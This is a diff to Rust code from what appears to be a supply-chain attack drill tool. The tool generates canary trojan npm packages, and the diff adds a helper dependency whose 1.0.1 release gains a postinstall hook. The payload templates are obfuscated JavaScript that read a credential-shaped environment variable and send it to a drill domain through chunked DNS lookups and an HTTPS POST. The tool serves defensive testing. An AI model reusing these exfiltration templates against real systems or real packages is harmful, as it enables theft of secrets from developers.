@@ -62,7 +62,8 @@ pub struct CanarySpec {
     pub id: String,
     /// The drill domain; must end in `.invalid` unless the user owns another.
     pub domain: String,
-    /// The canary value sent (never a real secret).
+    /// The canary value sent (never a real secret). The payloads read it from
+    /// `TURNCOAT_DRILL_CANARY_TOKEN`, a credential-shaped name, as a thief reads `NPM_TOKEN`.
     pub value: String,
     /// The file a payload writes when it runs.
     pub marker: String,
@@ -170,7 +171,7 @@ fn seed_payload(spec: &CanarySpec) -> String {
     let table = table.iter().map(|s| js(s)).collect::<Vec<_>>().join(",");
     format!(
         "'use strict';var _0x1f=[{table}];function _0x2(i){{return Buffer.from(_0x1f[i],'base64').toString();}}\
-var _0xd=require(_0x2(0)),_0xf=require(_0x2(4));var _0xv=process[_0x2(2)].TURNCOAT_DRILL_CANARY||{value};\
+var _0xd=require(_0x2(0)),_0xf=require(_0x2(4));var _0xv=process[_0x2(2)].TURNCOAT_DRILL_CANARY_TOKEN||{value};\
 try{{_0xf[_0x2(3)]({marker},{id});}}catch(_0xe){{}}\
 var _0xb=Buffer.from(_0xv).toString(_0x2(5)).replace(/[^A-Za-z0-9]/g,'').toLowerCase();\
 for(var _0xi=0;_0xi<_0xb.length;_0xi+=40){{try{{_0xd[_0x2(1)](_0xb.slice(_0xi,_0xi+40)+'.'+{domain},function(){{}});}}catch(_0xe){{}}}}\n",
@@ -186,7 +187,7 @@ fn runtime_payload(spec: &CanarySpec) -> String {
     format!(
         "\n;(function(){{try{{require('fs').writeFileSync({marker},{id});}}catch(e){{}}\
 try{{var r=require('https').request({{host:'c.'+{domain},port:443,method:'POST',path:'/c'}},function(){{}});\
-r.on('error',function(){{}});r.end(process.env.TURNCOAT_DRILL_CANARY||{value});}}catch(e){{}}}})();\n",
+r.on('error',function(){{}});r.end(process.env.TURNCOAT_DRILL_CANARY_TOKEN||{value});}}catch(e){{}}}})();\n",
         marker = js(&spec.marker),
         id = js(&spec.id),
         domain = js(&spec.domain),
@@ -232,20 +233,24 @@ pub fn generate(spec: &CanarySpec, scenario: Scenario, addon: &[u8]) -> Canary {
             trojan.files[1].1 = index.into_bytes();
         }
         Scenario::NewDependency => {
+            // As with axios and plain-crypto-js: the helper gets a clean 1.0.0 for some
+            // history, its 1.0.1 adds the hook, and the parent's release only adds the
+            // dependency on it.
             let helper = spec.helper();
-            let mut h = clean(&helper, "1.0.0");
+            let mut h = clean(&helper, "1.0.1");
             h.files[0].1 = manifest(
                 &helper,
-                "1.0.0",
+                "1.0.1",
                 serde_json::json!({"scripts": {"postinstall": "node setup.js"}}),
             );
             h.files
                 .push(("setup.js".into(), seed_payload(spec).into_bytes()));
+            before.push(clean(&helper, "1.0.0"));
             before.push(h);
             trojan.files[0].1 = manifest(
                 &name,
                 "1.0.1",
-                serde_json::json!({"dependencies": {helper: "^1.0.0"}}),
+                serde_json::json!({"dependencies": {helper: "^1.0.1"}}),
             );
         }
         Scenario::Binary => {
@@ -308,7 +313,7 @@ mod tests {
         let man = String::from_utf8(seed.trojan.files[0].1.clone()).unwrap();
         assert!(man.contains("postinstall"));
         let nd = generate(&s, Scenario::NewDependency, b"");
-        assert_eq!(nd.before.len(), 2);
+        assert_eq!(nd.before.len(), 3);
         assert!(String::from_utf8_lossy(&nd.trojan.files[0].1).contains("drill-ab12cd34-helper"));
         let bin = generate(&s, Scenario::Binary, b"\x7fELF");
         assert!(
